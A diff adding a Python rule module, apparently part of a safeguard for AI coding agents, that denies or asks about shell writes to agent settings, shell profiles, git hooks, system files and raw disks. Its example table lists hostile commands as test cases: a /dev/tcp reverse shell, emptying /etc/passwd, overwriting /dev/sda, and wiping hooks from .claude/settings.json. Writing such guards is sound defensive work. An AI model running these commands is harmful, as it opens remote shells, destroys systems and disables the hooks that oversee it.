@@ -1,0 +1,126 @@
+"""Stops shell commands from writing settings, shell profiles, git's inside, the system's configuration and disks.
+
+Why: what is written there runs or counts later, unseen: a profile line in every shell, a hook at the next commit, an
+empty settings file in the next session, which then has no guard.
+"""
+
+from __future__ import annotations
+
+from hookwright.rules import ask, deny, shown
+from hookwright.rules import paths
+from hookwright.rules.protected import GIT, PROFILE, SECRET, SETTINGS, SYSTEM, WHAT, protection
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from hookwright.rules import Finding, Scene
+    from hookwright.shell.command import Call
+
+ID = "protected-write"
+EXAMPLES = {
+    "echo '{}' > ~/.claude/settings.json": "deny",
+    "sed -i '/hooks/d' .claude/settings.json": "deny",
+    "jq 'del(.hooks)' .claude/settings.json > /tmp/s && mv /tmp/s .claude/settings.json": "deny",
+    "> /etc/passwd": "deny",
+    "echo x > /dev/sda": "deny",
+    "echo b > /proc/sysrq-trigger": "deny",
+    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1": "deny",
+    "echo 'export A=1' >> ~/.bashrc": "ask",
+    "echo '127.0.0.1 x' | sudo tee -a /etc/hosts": "ask",
+    "sudo vim /etc/hosts": "ask",
+    "sudo cp tool /usr/local/bin/": "ask",
+    "cat key.pub >> ~/.ssh/authorized_keys": "ask",
+    "ln -sf ../../hook.sh .git/hooks/pre-commit": "ask",
+    "sudo sed -i 's/a/b/' /etc/ssh/sshd_config": "ask",
+    "cp .env.example .env": None,
+    "echo A=1 >> .env": None,
+    "sed -n 1p ~/.bashrc": None,
+    "cp ~/.bashrc /tmp/": None,
+    "echo hi > notes.txt 2>/dev/null": None,
+    "echo > /dev/tcp/localhost/5432": None,
+    "cat <<'EOF' > docs/settings.json\n{}\nEOF": None,
+    "tee build.log": None,
+}
+
+EDITORS = frozenset("vim vi nvim nano emacs ed ex code subl micro pico gedit".split())
+SHELLS = frozenset("sh bash zsh dash ksh nc ncat python python3 perl ruby exec".split())
+VITAL = frozenset("/etc/passwd /etc/shadow /etc/group /etc/fstab /etc/sudoers /proc/sysrq-trigger".split())
+
+
+def check(call: Call, scene: Scene) -> Finding | None:
+    first = None
+    for word, appends in targets(call):
+        finding = written(call, word, appends=appends)
+        if finding is not None:
+            if finding.verdict == "deny":
+                return finding
+            first = first or finding
+    return first
+
+
+def written(call: Call, word: Word, *, appends: bool) -> Finding | None:
+    """What it means to write this one file."""
+    if word[:1] == "/" and word.startswith("/dev/"):
+        return device(call, word)
+    path = call.path(word)
+    if path is None:
+        return None
+    what = protection(path if path[-1:] != "/" else path + "x")
+    if not what or what == SECRET or (call.remote is not None and what != SYSTEM):
+        return None
+    if what == SYSTEM and (path.startswith(paths.TEMPS) or path[:6] == "/proc/" and path[6:].startswith("self")):
+        return None
+    text = seen(call, word)
+    look = f"cat {word}" if call.program not in EDITORS else f"ls -la {word}"
+    if what == SETTINGS:
+        return deny(f"{text}, which {WHAT[what]}; change it with the Edit tool, so that it is seen", look)
+    if path in VITAL and not appends:
+        return deny(f"{text}, without which the system does not work", look)
+    if what == GIT and not runs_later(path):
+        return None
+    return ask(f"{text}, which {WHAT[what]}", f"ls -la {word}")
+
+
+def runs_later(path: str) -> bool:
+    inner = path.rpartition(".git/")[2]
+    return inner.startswith(("hooks/", "config", "info/")) or inner in ("HEAD", "index", "packed-refs")
+
+
+def device(call: Call, word: Word) -> Finding | None:
+    from hookwright.rules.raw_device import DISKS  # noqa: PLC0415  rare
+
+    if word.startswith(DISKS):
+        return deny(f"{seen(call, word)}: the disk is overwritten from its first byte", "lsblk")
+    if word.startswith(("/dev/tcp/", "/dev/udp/")) and call.program in SHELLS:
+        return deny(f"{seen(call, word)}: it hands a shell on this machine to another one", "ss -tn")
+    return None
+
+
+def seen(call: Call, word: Word) -> str:
+    return f"`{shown(call)}` writes {word}" if call.words else f"`> {word}` empties {word}"
+
+
+def targets(call: Call) -> list[tuple[Word, bool]]:
+    """The files that the call writes, and whether it only adds to them."""
+    found = [(redirect.target, redirect.op == ">>") for redirect in call.redirects if redirect.writes]
+    program = call.program
+    operands = call.operands() if call.words else []
+    if program == "tee":
+        found += [(word, call.has_flag("-a", "--append")) for word in operands]
+    elif program in ("cp", "mv", "install", "ln", "rsync") and len(operands) > 1:
+        found.append((call.option("-t", "--target-directory") or operands[-1], False))
+    elif program in EDITORS:
+        found += [(word, True) for word in operands]
+    elif program in ("sed", "gsed", "perl", "ruby") and edits_in_place(call):
+        found += [(word, True) for word in operands]
+    elif program in ("truncate", "touch"):
+        found += [(word, program == "touch") for word in operands]
+    return found
+
+
+def edits_in_place(call: Call) -> bool:
+    for word in call.args:
+        if word[:2] == "-i" or word.startswith("--in-place"):
+            return True
+        if word[:1] == "-" and word[1:2] != "-" and "i" in word and call.program in ("perl", "ruby"):
+            return True
+    return False
